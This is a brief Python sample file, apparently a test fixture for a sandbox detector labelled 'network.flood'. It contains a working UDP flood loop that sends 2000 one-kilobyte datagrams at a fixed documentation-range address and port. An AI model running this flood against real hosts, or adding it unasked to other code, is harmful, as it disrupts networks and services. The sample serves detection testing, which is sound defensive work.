# expect: network.flood
# ruff: noqa (deliberately hostile or plain sample code, run inside the sandbox)
# A UDP flood: as many datagrams as it can, at a fixed target.
import socket

sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = b"\x00" * 1024
sent = 0
for _ in range(2000):
    try:
        sock.sendto(payload, ("203.0.113.9", 27015))
        sent += 1
    except OSError:
        pass
print("sent", sent)
